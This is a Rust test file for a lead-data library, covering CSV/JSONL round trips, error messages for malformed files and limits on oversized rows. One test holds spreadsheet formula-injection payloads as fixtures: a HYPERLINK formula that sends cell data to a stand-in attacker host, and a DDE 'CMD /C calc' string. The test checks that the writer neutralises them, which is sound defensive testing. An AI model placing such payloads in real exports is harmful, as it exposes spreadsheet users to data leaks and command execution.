//! Lead files: round trips through CSV and JSONL, and the error each kind of broken file gets.

use std::fs;
use std::path::{Path, PathBuf};

use lead_bench::lead::{
    Columns, Difficulty, Format, Gold, Label, Lead, LeadError, LeadMeta, LeadReader, LeadWriter,
    Seniority, Source, Split, read_leads,
};

const HEADER: &str =
    "lead_id,company_name,company_size,domain,industry,job_title,seniority,inbound_message,source";

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    fs::write(&path, bytes).expect("write fixture");
    path
}

fn error_of(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let path = write(dir, name, bytes);
    match read_leads(&path) {
        Ok(leads) => panic!("{name}: expected an error, read {} leads", leads.len()),
        Err(e) => e.to_string(),
    }
}

fn sample_lead(id: &str) -> Lead {
    Lead {
        lead_id: id.to_string(),
        company_name: "Acme, \"Widgets\" Inc".to_string(),
        company_size: Some(1200),
        domain: "acme.com".to_string(),
        industry: "Manufacturing".to_string(),
        job_title: "VP Engineering".to_string(),
        seniority: Some(Seniority::Vp),
        inbound_message: "We need SOC 2 docs,\npricing for 300 seats — ¿hablan español?"
            .to_string(),
        source: Source::Referral,
        enrichment: Default::default(),
        gold: Some(Gold {
            label: Label::High,
            score: Some(88),
        }),
        outcome: Default::default(),
        meta: LeadMeta {
            archetype: Some("enterprise_buyer".to_string()),
            difficulty: Some(Difficulty::Easy),
            label_noise: Some(false),
            split: Some(Split::Test),
            p_convert: None,
        },
    }
}

fn unknown_fields_lead(id: &str) -> Lead {
    Lead {
        lead_id: id.to_string(),
        company_name: String::new(),
        company_size: None,
        domain: String::new(),
        industry: String::new(),
        job_title: String::new(),
        seniority: None,
        inbound_message: "hi".to_string(),
        source: Source::Unknown,
        enrichment: Default::default(),
        gold: None,
        outcome: Default::default(),
        meta: LeadMeta::default(),
    }
}

#[test]
fn csv_and_jsonl_round_trip() {
    let dir = tempfile::tempdir().expect("tempdir");
    let leads = vec![sample_lead("a1"), unknown_fields_lead("a2")];
    for (name, format) in [("leads.csv", Format::Csv), ("leads.jsonl", Format::Jsonl)] {
        let columns = Columns {
            enrichment: false,
            gold: true,
            meta: true,
            tail: vec![],
        };
        let mut w = LeadWriter::new(Vec::new(), format, columns).expect("writer");
        for lead in &leads {
            w.write(lead, &[]).expect("write");
        }
        let bytes = w.finish().expect("finish");
        let path = write(dir.path(), name, &bytes);
        assert_eq!(read_leads(&path).expect("read back"), leads, "{name}");
    }
}

#[test]
fn aliases_size_forms_and_extra_columns_are_accepted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let csv = "\u{feff}company_name,company_size,domain,industry,job_title,seniority,inbound_message,source,crm_id\n\
        A,\"1,200\",a.com,SaaS,Founder,founder,hello,paid social,x1\n\
        B,51-200,b.com,SaaS,CEO,c-suite/founder,hi,,x2\n\
        C,10000+,c.com,SaaS,,,\"multi\nline\",EMAIL,x3\n\
        D,1k,d.com,SaaS,,cxo,hey,unknown,x4\n";
    let path = write(dir.path(), "ok.csv", csv.as_bytes());
    let mut reader = LeadReader::open(&path).expect("open");
    let rows: Vec<_> = reader.by_ref().collect::<Result<_, _>>().expect("rows");
    assert_eq!(reader.extra_columns(), ["crm_id"]);
    let sizes: Vec<_> = rows.iter().map(|r| r.lead.company_size).collect();
    assert_eq!(sizes, [Some(1200), Some(126), Some(10000), Some(1000)]);
    let ids: Vec<_> = rows.iter().map(|r| r.lead.lead_id.as_str()).collect();
    assert_eq!(ids, ["row-1", "row-2", "row-3", "row-4"]);
    assert_eq!(rows[0].lead.seniority, Some(Seniority::CSuite));
    assert_eq!(rows[0].lead.source, Source::PaidSocial);
    assert_eq!(rows[1].lead.source, Source::Unknown);
    assert_eq!(rows[2].lead.seniority, None);
    assert_eq!(rows[2].lead.source, Source::Email);
    assert_eq!(rows[2].lead.inbound_message, "multi\nline");
    assert_eq!(rows[3].extra, ["x4"]);
}

#[test]
fn broken_csv_files_get_errors_naming_file_row_and_column() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let good_row = "L1,Acme,200,acme.com,SaaS,CTO,c-suite,pricing please,referral";

    let msg = error_of(
        d,
        "missing.csv",
        b"lead_id,company_name,company_size,domain,industry,job_title,seniority,source\n",
    );
    assert!(
        msg.contains("missing.csv") && msg.contains("missing column(s) inbound_message"),
        "{msg}"
    );

    let msg = error_of(
        d,
        "seniority.csv",
        format!("{HEADER}\n{good_row}\nL2,Beta,20,b.io,SaaS,Intern,intern,hi,blog\n").as_bytes(),
    );
    assert!(
        msg.starts_with(&format!(
            "{}:3: row 2, column `seniority`",
            d.join("seniority.csv").display()
        )),
        "{msg}"
    );
    assert!(
        msg.contains("expected one of entry, manager") && msg.contains("\"intern\""),
        "{msg}"
    );

    let msg = error_of(
        d,
        "size.csv",
        format!("{HEADER}\nL1,Acme,lots,acme.com,SaaS,CTO,c-suite,hi,referral\n").as_bytes(),
    );
    assert!(
        msg.contains("size.csv:2: row 1, column `company_size`: expected an employee count"),
        "{msg}"
    );

    let msg = error_of(
        d,
        "source.csv",
        format!("{HEADER}\nL1,Acme,10,acme.com,SaaS,CTO,c-suite,hi,tv\n").as_bytes(),
    );
    assert!(
        msg.contains("column `source`") && msg.contains("\"tv\""),
        "{msg}"
    );

    let mut bytes = format!("{HEADER}\n{good_row}\nL2,Beta,20,b.io,SaaS,CTO,vp,caf").into_bytes();
    bytes.extend_from_slice(&[0xff, 0xfe]);
    bytes.extend_from_slice(b",blog\n");
    let msg = error_of(d, "utf8.csv", &bytes);
    assert!(
        msg.contains("utf8.csv:3: row 2, column `inbound_message`: expected valid UTF-8"),
        "{msg}"
    );

    let msg = error_of(
        d,
        "fields.csv",
        format!("{HEADER}\n{good_row}\n{good_row},extra\n").as_bytes(),
    );
    assert!(
        msg.contains("fields.csv:3: the row has 10 fields, but the header has 9"),
        "{msg}"
    );

    let msg = error_of(
        d,
        "gold.csv",
        format!("{HEADER},gold_label\n{good_row},great\n").as_bytes(),
    );
    assert!(
        msg.contains("column `gold_label`: expected one of low, medium, high"),
        "{msg}"
    );

    let msg = error_of(
        d,
        "score.csv",
        format!("{HEADER},gold_label,gold_score\n{good_row},high,140\n").as_bytes(),
    );
    assert!(
        msg.contains("column `gold_score`: expected an integer score from 0 to 100"),
        "{msg}"
    );

    let msg = error_of(
        d,
        "dup.csv",
        format!("{HEADER}\n{good_row}\n{good_row}\n").as_bytes(),
    );
    assert!(
        msg.contains(
            "dup.csv:3: row 2, column `lead_id`: expected a unique lead id (row 1 has the same one)"
        ),
        "{msg}"
    );

    // A deal value that would overflow the revenue sums.
    let msg = error_of(
        d,
        "deal.csv",
        format!("{HEADER},converted,deal_value\n{good_row},true,1e308\n").as_bytes(),
    );
    assert!(
        msg.contains("deal.csv:2: row 1, column `deal_value`: expected a number from 0 to 10^15"),
        "{msg}"
    );

    let msg = error_of(d, "empty.csv", b"");
    assert!(msg.contains("empty.csv") && msg.contains("empty"), "{msg}");

    let msg = error_of(d, "twice.csv", format!("{HEADER},source\n").as_bytes());
    assert!(msg.contains("column `source` appears twice"), "{msg}");
}

#[test]
fn broken_jsonl_files_get_errors_naming_file_and_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let good = r#"{"lead_id":"a","company_name":"A","company_size":10,"domain":"a.io","industry":"SaaS","job_title":"CEO","seniority":"c-suite","inbound_message":"hi","source":"blog"}"#;

    let msg = error_of(d, "bad.jsonl", format!("{good}\n\n{{not json\n").as_bytes());
    assert!(
        msg.contains("bad.jsonl:3: expected one JSON object per line"),
        "{msg}"
    );

    let msg = error_of(d, "array.jsonl", b"[1,2]\n");
    assert!(
        msg.contains("array.jsonl:1: expected a JSON object"),
        "{msg}"
    );

    let msg = error_of(d, "missing.jsonl", br#"{"company_name":"A"}"#);
    assert!(msg.contains("missing column(s) company_size"), "{msg}");

    let msg = error_of(
        d,
        "sen.jsonl",
        format!(
            "{good}\n{}\n",
            good.replace("\"a\"", "\"b\"").replace("c-suite", "boss")
        )
        .as_bytes(),
    );
    assert!(
        msg.contains("sen.jsonl:2: row 2, column `seniority`"),
        "{msg}"
    );
}

#[test]
fn missing_file_names_the_path() {
    let err = read_leads(Path::new("no/such/leads.csv")).expect_err("missing file");
    assert!(matches!(err, LeadError::Io { .. }));
    assert!(
        err.to_string().contains("no/such/leads.csv: cannot open"),
        "{err}"
    );
}

#[test]
fn formula_cells_are_neutralised_in_csv_and_read_back_exactly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut lead = sample_lead("=1+1");
    lead.company_name = "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")".to_string();
    lead.job_title = "+CMD|' /C calc'!A0".to_string();
    lead.industry = "'=already quoted".to_string();
    lead.domain = "-acme.com".to_string();
    lead.inbound_message = "@SUM(A1:A9)\nthen a normal line".to_string();
    let mut tab = sample_lead("L2");
    tab.company_name = "\tTabbed".to_string();
    tab.job_title = "\rReturned".to_string();
    let leads = vec![lead, tab];
    for format in [Format::Csv, Format::Jsonl] {
        let name = match format {
            Format::Csv => "leads.csv",
            Format::Jsonl => "leads.jsonl",
        };
        let path = dir.path().join(name);
        let columns = Columns {
            enrichment: false,
            gold: true,
            meta: true,
            tail: vec![],
        };
        let mut w = LeadWriter::new(fs::File::create(&path).expect("create"), format, columns)
            .expect("writer");
        for l in &leads {
            w.write(l, &[]).expect("row");
        }
        w.finish().expect("finish");
        let text = fs::read_to_string(&path).expect("read");
        if format == Format::Csv {
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            for record in reader.records() {
                for cell in record.expect("record").iter() {
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "a formula cell was written as it is: {cell:?}"
                    );
                }
            }
        } else {
            assert!(text.contains("\"=HYPERLINK"), "JSONL is exact");
        }
        assert_eq!(read_leads(&path).expect("reads back"), leads, "{name}");
    }
}

#[test]
fn hostile_files_get_row_level_errors_not_unbounded_reads() {
    let dir = tempfile::tempdir().expect("tempdir");
    // Not a regular file: would be read without end.
    let msg = read_leads(Path::new("/dev/zero"))
        .expect_err("not a file")
        .to_string();
    assert!(
        msg.contains("/dev/zero") && msg.contains("not a regular file"),
        "{msg}"
    );
    // One row past the cap, with no line break in sight (CSV and JSONL).
    let huge = "x".repeat(lead_bench::lead::MAX_ROW_BYTES + 10);
    let csv = format!(
        "{HEADER}\nL1,Acme,10,a.com,saas,cto,,hi,referral\nL2,Acme,10,a.com,saas,cto,,{huge},referral\n"
    );
    let msg = error_of(dir.path(), "long.csv", csv.as_bytes());
    assert!(
        msg.contains("long.csv:3:") && msg.contains("longer than"),
        "{msg}"
    );
    // A quoted field that never closes: reading stops at the cap, not at the end of the file.
    let endless = "y".repeat(5 * lead_bench::lead::MAX_ROW_BYTES);
    let csv = format!("{HEADER}\nL1,Acme,10,a.com,saas,cto,,\"{endless}");
    let msg = error_of(dir.path(), "open.csv", csv.as_bytes());
    assert!(
        msg.contains("open.csv:2:") && msg.contains("longer than"),
        "{msg}"
    );
    let jsonl = format!("{{\"x\": \"{huge}\"}}\n");
    let msg = error_of(dir.path(), "long.jsonl", jsonl.as_bytes());
    assert!(
        msg.contains("long.jsonl:1:") && msg.contains("longer than"),
        "{msg}"
    );
    // NUL characters would be copied raw into every output.
    let msg = error_of(
        dir.path(),
        "nul.csv",
        format!("{HEADER}\nL1,Ac\0me,10,a.com,saas,cto,,hi,referral\n").as_bytes(),
    );
    assert!(
        msg.contains("row 1") && msg.contains("company_name") && msg.contains("NUL"),
        "{msg}"
    );
    let msg = error_of(
        dir.path(),
        "nul.jsonl",
        br#"{"company_name":"a","company_size":"","domain":"","industry":"","job_title":"","seniority":"","inbound_message":"hi\u0000","source":""}"#,
    );
    assert!(
        msg.contains("inbound_message") && msg.contains("NUL"),
        "{msg}"
    );
}

#[test]
fn a_jsonl_file_may_start_with_a_byte_order_mark_like_a_csv() {
    let dir = tempfile::tempdir().expect("tempdir");
    let line = r#"{"lead_id":"L1","company_name":"Acme","company_size":"10","domain":"a.com","industry":"saas","job_title":"CTO","seniority":"","inbound_message":"hi","source":"referral"}"#;
    let path = write(
        dir.path(),
        "bom.jsonl",
        format!("\u{feff}{line}\n").as_bytes(),
    );
    let leads = read_leads(&path).expect("a BOM is not an error");
    assert_eq!(leads[0].lead_id, "L1");
    let path = write(
        dir.path(),
        "bom.csv",
        format!("\u{feff}{HEADER}\nL1,Acme,10,a.com,saas,CTO,,hi,referral\n").as_bytes(),
    );
    assert_eq!(read_leads(&path).expect("reads")[0].lead_id, "L1");
}
